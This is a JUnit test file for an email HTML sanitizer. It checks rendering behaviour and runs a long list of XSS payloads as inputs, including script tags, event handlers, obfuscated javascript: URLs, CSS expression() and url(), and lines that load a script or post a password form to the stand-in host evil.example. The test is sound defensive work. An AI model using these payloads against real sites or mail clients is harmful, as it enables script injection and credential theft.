package dk.kontakt.channel.email.mime;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Locale;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CleanHtmlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<script >alert(1)</script\n>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"cid:1\" onload=alert(1)>",
                "<img/src='cid:1'/onerror='alert(1)'>",
                "<img src=\"javascript:alert(1)\">",
                "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
                "<img src='data:text/html,<script>alert(1)</script>'>",
                "<img srcset='https://evil.example/x.png 1x'>",
                "<img src='cid:1' srcset='https://evil.example/x.png 1x'>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href='cid:1'>x</a>",
                "<a href='/kontakt/logout'>x</a>",
                "<a href='https://x.dk' onclick='alert(1)'>x</a>",
                "<a href='https://x.dk' target='_self' rel='opener'>x</a>",
                "<svg><script>alert(1)</script></svg>",
                "<svg onload=alert(1)>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<iframe src='https://evil.example'></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='evil.swf'></object>",
                "<embed src='evil.swf'>",
                "<applet code=evil></applet>",
                "<form action='https://evil.example'><input name=password><button>x</button></form>",
                "<textarea autofocus onfocus=alert(1)></textarea>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<base href='https://evil.example/'>",
                "<style>body{background:url(https://evil.example/x)}</style>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<p style=\"background:url('https://evil.example/x')\">x</p>",
                "<p style='background-image:\\75rl(https://evil.example/x)'>x</p>",
                "<p style='width:expression(alert(1))'>x</p>",
                "<p style='behavior:url(x.htc)'>x</p>",
                "<p style='position:fixed;top:0;left:0'>x</p>",
                "<p style='position: absolute; z-index: 9'>x</p>",
                "<p style='-moz-binding:url(https://evil.example/x)'>x</p>",
                "<table background='https://evil.example/x.png'><tr><td background='//evil.example'>x</td></tr></table>",
                "<body onload=alert(1) background='https://evil.example/x.png'>x</body>",
                "<video src='https://evil.example/x' poster='https://evil.example/y'></video>",
                "<audio src=x onerror=alert(1)></audio>",
                "<details open ontoggle=alert(1)><summary>x</summary></details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<div id=login class=ui-dialog>x</div>",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<p title='--><script>alert(1)</script>'>x</p>",
                "<template><script>alert(1)</script></template>",
                "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
                "<a href=\"https://x.dk/?q='%22><script>alert(1)</script>\">x</a>",
                "<frameset><frame src='https://evil.example'></frameset>",
                "<isindex action=javascript:alert(1) type=image>",
                "<\u0000script>alert(1)</script>",
                "<img src=\"https://evil.example/x.png\">"
            })
    void letsNothingRunOrFetch(String html) {
        String clean = clean(html).html();
        for (Element element : Jsoup.parse(clean).body().select("*")) {
            assertTrue(
                    element.normalName().matches("body|p|div|span|a|img|table|tbody|tr|td|details|summary|br"), clean);
            element.attributes().forEach(attribute -> assertHarmless(element, attribute, clean));
        }
    }

    private static void assertHarmless(Element element, Attribute attribute, String clean) {
        String value = attribute.getValue().toLowerCase(Locale.ROOT);
        switch (attribute.getKey()) {
            case "href" -> assertTrue(value.matches("(?s)(https?://|mailto:|tel:).*"), clean);
            case "src" -> assertTrue(value.matches("/files/.*|data:image/(png|gif|jpeg);.*"), clean);
            case "style" ->
                assertFalse(value.matches("(?s).*(url|expression|position|behavior|binding|\\\\).*"), clean);
            case "target" -> assertEquals("_blank", value);
            case "rel" -> assertEquals("noopener noreferrer", value);
            case "title", "alt" -> assertFalse(element.normalName().isEmpty());
            default -> throw new AssertionError(clean);
        }
    }

    @Test
    void keepsFormattingTablesAndLists() {
        String html = "<p style=\"color:red\"><b>a</b> <i>b</i></p><ul><li>c</li></ul>"
                + "<table><tbody><tr><td>d</td></tr></tbody></table>";
        assertEquals(html, clean(html).html());
    }

    @Test
    void opensLinksElsewhere() {
        assertEquals(
                "<a href=\"https://x.dk/a?b&#61;c\" target=\"_blank\" rel=\"noopener noreferrer\">x</a>",
                clean("<a href='https://x.dk/a?b=c'>x</a>").html());
        assertTrue(clean("<a href='mailto:a@b.dk'>x</a>").html().contains("href=\"mailto:a"));
        assertTrue(clean("<a href='tel:+4512345678'>x</a>").html().contains("href=\"tel:"));
        assertEquals("x", clean("<a href='javascript:x'>x</a>").html());
    }

    @Test
    void showsPicturesThatCameAlong() {
        assertTrue(clean("<img src='cid:logo%401' alt='Logo'>").html().contains("src=\"/files/logo&#64;1\""));
        assertEquals(new CleanHtml("", 0), clean("<img src='cid:absent'>"));
        assertTrue(clean("<img src='data:image/png;base64,AAEC'>").html().contains("data:image/png;base64,AAEC"));
    }

    @Test
    void countsPicturesFromElsewhere() {
        CleanHtml clean = clean(
                "a<img src='https://x.dk/1.png'><img src='http://x.dk/2.png'><img src='//x.dk/3.png'>"
                        + "<table background='https://x.dk/4.png'><tbody><tr><td style='background:url(https://x.dk/5.png)'>b</td></tr></tbody></table>");
        assertEquals(5, clean.blockedImages());
        assertFalse(clean.html().contains("x.dk"));
    }

    @Test
    void foldsTheQuoteAtTheEnd() {
        assertEquals(
                "<p>new</p><details><summary>…</summary><blockquote>old</blockquote></details>",
                clean("<p>new</p><blockquote>old</blockquote>").html());
        assertEquals(
                "<p>new</p><details><summary>…</summary><div>On x:<blockquote>old</blockquote></div></details>",
                clean("<p>new</p><div class=gmail_quote>On x:<blockquote>old</blockquote></div>")
                        .html());
    }

    @Test
    void leavesAQuoteOpenThatIsAnswered() {
        String html = "<blockquote>old</blockquote><p>new</p>";
        assertEquals(html, clean(html).html());
    }

    @Test
    void bearsEndlessNesting() {
        assertFalse(clean("<blockquote><div>".repeat(20_000)).html().contains("script"));
    }

    private static CleanHtml clean(String html) {
        return CleanHtml.of(html, id -> id.equals("absent") ? null : "/files/" + id);
    }
}
